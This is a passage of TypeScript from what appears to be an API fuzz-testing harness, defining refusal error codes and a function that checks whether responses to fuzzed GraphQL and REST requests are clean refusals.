    yield* fc.sample(fuzzRequest, { seed: (seed + Math.imul(c, 0x9e3779b1)) | 0, numRuns: Math.min(chunk, count - start) });
  }
}

/** Codes of docs/api.md, "Errors", that refuse a request (INTERNAL_SERVER_ERROR is a bug). */
const REFUSALS = new Set(['BAD_USER_INPUT', 'UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND', 'CONFLICT', 'RULE_VIOLATION', 'PAYLOAD_TOO_LARGE']);
const RECORD_REFUSALS = new Set(['BAD_USER_INPUT', 'NOT_FOUND', 'RULE_VIOLATION', 'CONFLICT']);

/**
 * Why an answer to a fuzzed request is not a clear refusal (null when it is one): a 5xx, a body that
 * is not JSON, a GraphQL answer without errors or with an error without a refusal code, a REST
 * problem without one, or a procurement batch with a record that was not rejected with a code.
 */
export function refusalProblem(request: FuzzRequest, status: number, text: string): string | null {
  if (status >= 500) return `HTTP ${status}`;
  let body: any;
  try {
    body = JSON.parse(text);
  } catch {
    return `HTTP ${status}, not JSON`;
  }
  if (request.path === '/graphql') {
    const errors: Array<{ extensions?: { code?: unknown } }> | undefined = body?.errors;
    if (!Array.isArray(errors) || errors.length === 0) return `HTTP ${status} without errors: accepted`;
    const unclear = errors.map((e) => e?.extensions?.code).filter((code) => !REFUSALS.has(code as string));
    return unclear.length ? `HTTP ${status} with error code ${String(unclear[0])}` : null;
  }
  if (status === 200) {
    const results: Array<{ status?: string; code?: string }> | undefined = body?.results;
    if (!Array.isArray(results) || results.length === 0) return 'HTTP 200 without results';
    const notRejected = results.find((r) => r.status !== 'rejected' || !RECORD_REFUSALS.has(r.code as string));
    return notRejected ? `record ${notRejected.status} ${notRejected.code ?? 'without a code'}` : null;
  }
  if (status < 400) return `HTTP ${status}`;
  return REFUSALS.has(body?.code) && body?.status === status ? null : `HTTP ${status} problem with code ${String(body?.code)}`;
}
